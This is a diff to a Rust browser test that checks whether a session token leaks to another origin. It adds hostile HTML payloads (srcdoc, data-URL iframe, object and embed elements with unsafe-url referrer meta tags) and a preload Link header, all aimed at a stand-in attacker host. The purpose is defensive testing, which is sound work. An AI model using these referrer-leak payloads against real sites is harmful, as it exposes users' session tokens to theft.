@@ -65,6 +65,10 @@ fn hostile_page(evil: &str) -> String {
 <img referrerpolicy=unsafe-url src="http://{evil}/img.gif">
 <img src="/local.gif">
 <iframe referrerpolicy="unsafe-url" src="http://{evil}/frame"></iframe>
+<iframe srcdoc="<meta name=referrer content=unsafe-url><img src=http://{evil}/srcdoc.gif><a id=in href=http://{evil}/in>in</a>"></iframe>
+<iframe src="data:text/html,<meta name=referrer content=unsafe-url><img src=http://{evil}/data.gif>"></iframe>
+<object data="data:text/html,<meta name=referrer content=unsafe-url><img src=http://{evil}/object.gif>"></object>
+<embed src="data:text/html,<meta name=referrer content=unsafe-url><img src=http://{evil}/embed.gif>">
 <a id=ping ping="http://{evil}/ping" href="/pinged">ping</a>
 <form id=f action="&sol;&sol;{evil}/form"><input name=q></form>
 <form id=g action="search"><input name=q></form>
@@ -94,7 +98,15 @@ async fn no_request_carrying_the_token_reaches_another_origin_in_chromium() {
     let (evil_addr, seen) = other_origin().await;
     let evil = evil_addr.to_string();
     let app = App::start().await;
-    app.page("/hostile", Page::html(&hostile_page(&evil)));
+    app.page(
+        "/hostile",
+        Page::html(&hostile_page(&evil)).with(
+            "link",
+            &format!(
+                "<http://{evil}/preload.css>; rel=preload; as=style; referrerpolicy=unsafe-url"
+            ),
+        ),
+    );
     app.page("/hidden", Page::html(&hidden_base_page(&evil)));
     app.page(
         "/start",
@@ -203,12 +215,14 @@ async fn no_request_carrying_the_token_reaches_another_origin_in_chromium() {
     c.close().await.unwrap();
 
     let seen = seen.lock().unwrap().clone();
-    for request in &seen {
-        assert!(
-            !request.contains(&token) && !request.contains(&token[..20]),
-            "the token reached another origin: {request}"
-        );
-    }
+    let leaks: Vec<&String> = seen
+        .iter()
+        .filter(|r| r.contains(&token) || r.contains(&token[..20]))
+        .collect();
+    assert!(
+        leaks.is_empty(),
+        "the token reached another origin: {leaks:#?}"
+    );
     // The pages' own links kept the session (a base the browser ignores changed nothing).
     for (page, home, urls) in &kept_home {
         assert!(
